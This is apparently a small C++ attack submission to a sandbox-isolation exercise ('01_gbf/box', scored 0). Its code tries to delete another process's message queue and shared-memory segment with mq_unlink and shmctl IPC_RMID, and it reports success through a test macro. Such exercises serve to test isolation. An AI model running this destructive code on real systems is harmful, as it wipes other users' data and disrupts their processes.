// attack: removes somebody's message queue and shared memory
// exercise: 01_gbf/box
// from: H1
// score: 0
#include <sys/shm.h>

static bool removed() {
    const bool queue = ::syscall(SYS_mq_unlink, PREY_QUEUE_NAME + 1) == 0;
    return ::shmctl(PREY_MEMORY, IPC_RMID, nullptr) == 0 || queue;
}

ANSWER_IF(removed())
